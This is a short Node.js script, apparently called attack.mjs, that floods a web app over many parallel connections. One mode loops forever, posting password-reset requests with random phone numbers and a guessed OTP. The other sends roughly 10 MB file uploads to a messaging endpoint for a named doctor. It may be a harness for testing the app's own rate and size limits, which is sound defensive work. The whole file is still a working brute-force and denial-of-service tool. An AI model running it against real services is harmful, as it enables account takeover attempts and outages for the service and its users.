import { Agent, request } from 'node:http';

// Usage: node attack.mjs URL KIND CONNECTIONS [TOKEN]. Runs until killed; `uploads` sends one file
// per connection and exits.

const [url = '', kind = '', connections = '1', token = ''] = process.argv.slice(2);
const count = Number(connections);
const agent = new Agent({ keepAlive: true, maxSockets: count });
// Node's multipart parser requires at least 27 characters.
const BOUNDARY = 'x'.repeat(30);
const TEN_MEGABYTES = Buffer.alloc(10 * 1024 * 1024 - 1000, 'A line of a scan.\n');

/**
 * @param {string} path
 * @param {Record<string, string>} headers
 * @param {Buffer | string} body
 */
function post(path, headers, body) {
  return new Promise((resolve) => {
    const call = request(url + path, { method: 'POST', agent, headers }, (response) => {
      response.resume();
      response.once('close', () => resolve(response.statusCode));
    });
    call.once('error', () => resolve(0));
    call.end(body);
  });
}

function guess() {
  const phone = `9${String(Math.floor(Math.random() * 1e9)).padStart(9, '0')}`;
  const body = JSON.stringify({ phone, otp: '000000', password: 'another-password' });
  return post('/api/reset-password', { 'content-type': 'application/json' }, body);
}

function upload() {
  const head =
    `--${BOUNDARY}\r\ncontent-disposition: form-data; name="body"\r\n\r\n` +
    `${JSON.stringify({ clientId: crypto.randomUUID(), content: { textContent: 'A scan' } })}\r\n` +
    `--${BOUNDARY}\r\ncontent-disposition: form-data; name="shareDoc"; filename="scan.txt"\r\n` +
    'content-type: text/plain\r\n\r\n';
  const body = Buffer.concat([
    Buffer.from(head),
    TEN_MEGABYTES,
    Buffer.from(`\r\n--${BOUNDARY}--\r\n`),
  ]);
  const headers = {
    'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
    'content-length': String(body.length),
    ...(token && { authorization: `Bearer ${token}` }),
  };
  return post('/api/messages/send/doctor-ananya-krishnan', headers, body);
}

const all = Array.from({ length: count }, async () => {
  if (kind === 'uploads') return upload();
  for (;;) await guess();
});
const statuses = await Promise.all(all);
console.log(statuses.join(' '));
agent.destroy();
